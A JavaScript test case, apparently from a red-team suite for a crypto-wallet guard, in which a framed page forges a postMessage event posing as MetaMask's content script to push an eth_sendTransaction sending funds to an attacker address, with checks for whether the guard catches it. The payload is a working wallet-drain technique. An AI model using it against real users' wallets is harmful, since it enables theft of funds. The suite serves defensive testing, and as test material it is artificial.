// G03: a document that was not covered in time dispatches a message on the page's window by its own native.
import { reachedWallet } from './logs.mjs';

const script = (a) => {
  const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
  const rpc = { jsonrpc: '2.0', id: 4242, method: 'eth_sendTransaction', params };
  const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: rpc } };
  return `<!doctype html><script>{
    const data = ${JSON.stringify(message)};
    const event = new MessageEvent('message', { data, origin: location.origin, source: top });
    EventTarget.prototype.dispatchEvent.call(top, event);
  }</script>`;
};

export default {
  id: 'G03',
  title: 'synthetic event by the native of a document that is not covered',
  source: 'red team, third round',
  level: 'detected',
  why: 'the first script of a document that does not load the guard runs before the frame can be covered; a page that may not be framed does not load',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
  page: { routes: { '/note.html': (a) => ({ text: script(a) }) } },

  async attack() {
    // The wallet's stream drops what comes before its handshake, so one answered question goes first.
    await window.ethereum.request({ method: 'eth_accounts' });
    const frame = document.createElement('iframe');
    const loaded = () => new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    frame.src = '/frame.html';
    document.documentElement.append(frame);
    await loaded();
    for (let turn = 0; turn < 3; turn += 1) {
      const next = loaded();
      frame.src = `/note.html?${turn}`;
      await Promise.race([next, new Promise((resolve) => setTimeout(resolve, 2000))]);
      await new Promise((resolve) => setTimeout(resolve, 300));
    }
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: { surface: 'postmessage', grade: 'tamper' },
  status: (status) => status.reasons.includes('wallet-bypass'),
};
